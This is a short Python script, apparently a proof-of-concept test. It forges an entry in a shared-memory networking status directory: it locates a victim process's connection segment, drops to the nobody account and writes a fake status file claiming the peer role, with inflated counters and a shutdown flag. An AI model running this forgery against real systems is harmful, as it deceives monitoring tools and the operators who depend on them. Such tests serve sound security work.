# Run as root: drops to nobody and, in a shared (1777) DIR, writes a status
# file of its own with one connection entry naming the segment of PID's
# connection, in the other role, with huge counters and "shut down
# writing" (a forgery); prints "wrote", then sleeps (its entry stays live).
# Layout version 3 (status-layout/src/lib.rs): sent 48, peer 64,
# received 88, identity 96.
import glob, os, struct, sys, time
d, victim = sys.argv[1], int(sys.argv[2])
seg = role = None
for f in glob.glob(d + "/status-*"):
    b = open(f, "rb").read()
    for i in range(1022):
        e = 256 + 128 * i
        st, pid = struct.unpack_from("<II", b, e)
        if st == 3 and pid == victim:
            seg = struct.unpack_from("<Q", b, e + 96)[0]
            role = struct.unpack_from("<I", b, e + 20)[0] & 1
assert seg, "no connection of the victim"
os.setgid(65534)
os.setuid(65534)
pid = os.getpid()
start = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[19])
pidns = os.stat("/proc/self/ns/pid").st_ino
b = bytearray(131072)
struct.pack_into("<8sIIIIIIQQI", b, 0, b"SHMNETS1", 3, 256, 128, 1022, pid, os.geteuid(), start, pidns, 0)
e = 256
addr = lambda port: struct.pack("<HHI", 2, port, 0) + bytes([127, 0, 0, 1]) + bytes(12)
struct.pack_into("<IIQII", b, e, 3, pid, start, 7, (0 if role else 1) | 2)
b[e + 24:e + 48] = addr(1)
struct.pack_into("<Q", b, e + 48, 1 << 40)
b[e + 64:e + 88] = addr(2)
struct.pack_into("<QQ", b, e + 88, 0, seg)
with open(f"{d}/status-{pid}-{start}", "wb") as f:
    f.write(b)
print("wrote", flush=True)
time.sleep(3600)
